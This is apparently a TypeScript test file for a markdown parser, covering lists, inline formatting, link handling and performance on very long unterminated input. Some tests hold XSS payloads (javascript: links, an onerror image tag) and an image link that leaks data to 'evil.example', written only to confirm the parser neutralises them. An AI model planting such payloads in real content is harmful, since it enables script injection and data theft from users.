import assert from "node:assert/strict";
import { test } from "node:test";
import { type Inline, parseMarkdown, plainText } from "./markdown.ts";

function line(source: string): Inline[] {
  const [block] = parseMarkdown(source);
  assert.equal(block?.kind, "paragraph");
  return block.lines[0]!;
}

test("paragraphs, line breaks and lists", () => {
  assert.deepEqual(parseMarkdown("One\ntwo\n\n- a\n- b\n\n3. c\n4. d\nend"), [
    { kind: "paragraph", lines: [[text("One")], [text("two")]] },
    { kind: "list", start: null, items: [[text("a")], [text("b")]] },
    { kind: "list", start: 3, items: [[text("c")], [text("d")]] },
    { kind: "paragraph", lines: [[text("end")]] },
  ]);
});

test("bold, code and source marks", () => {
  assert.deepEqual(line("**Yes**, run `a **b**` [2]."), [
    { kind: "bold", inside: [text("Yes")] },
    text(", run "),
    { kind: "code", text: "a **b**" },
    { kind: "mark", number: 2 },
    text("."),
  ]);
});

test("addresses become links and leave the sentence its full stop", () => {
  assert.deepEqual(line("See https://a.example/x?y=1. Or [write](mailto:a@b.example)."), [
    text("See "),
    { kind: "link", href: "https://a.example/x?y=1", text: "https://a.example/x?y=1" },
    text(". Or "),
    { kind: "link", href: "mailto:a@b.example", text: "write" },
    text("."),
  ]);
});

test("other schemes, relative addresses and HTML stay text", () => {
  for (const target of [
    "javascript:alert(1)",
    "JaVaScRiPt:alert",
    "data:text/html,x",
    "/path",
    "vbscript:x",
    "blob:x",
  ]) {
    assert.deepEqual(
      line(`[label](${target})`).filter((piece) => piece.kind !== "text"),
      [],
      target,
    );
  }
  assert.deepEqual(line("<img src=x onerror=alert(1)>"), [text("<img src=x onerror=alert(1)>")]);
});

test("an image is never more than its description", () => {
  assert.deepEqual(line("![secret](https://evil.example/?d=secret)"), [text("secret")]);
});

test("signs without a partner stay as they are", () => {
  assert.deepEqual(line("2 ** 3 * 4 ` and [x] [a](b"), [text("2 ** 3 * 4 ` and [x] [a](b")]);
});

const shownOf: Record<string, (text: string) => string> = {
  "**a": (text) => text.replaceAll("*", ""),
  "- ": (text) => text.slice("- ".length),
  "# ": (text) => text.slice("# ".length).trimEnd(),
};
for (const mark of ["**a", "[", "![", "`", "[a](", "https://", "- ", "# "])
  test(`of ${mark} without end every letter is shown, and read only once however long`, () => {
    const endless = mark.repeat(2_000_000 / mark.length);
    const [block, ...others] = parseMarkdown(endless);
    const expected = shownOf[mark]?.(endless) ?? endless;
    assert.deepEqual([block?.kind, others], [mark === "- " ? "list" : "paragraph", []]);
    const shown = plainText(endless);
    assert.ok(shown === expected, `${shown.length} instead of ${expected.length}: ${shown.slice(0, 200)}`);
  });

test("what is read aloud has no marks", () => {
  assert.equal(plainText("**Yes** [1].\n- see [here](https://a.example)"), "Yes.\nsee here");
});

function text(value: string): Inline {
  return { kind: "text", text: value };
}
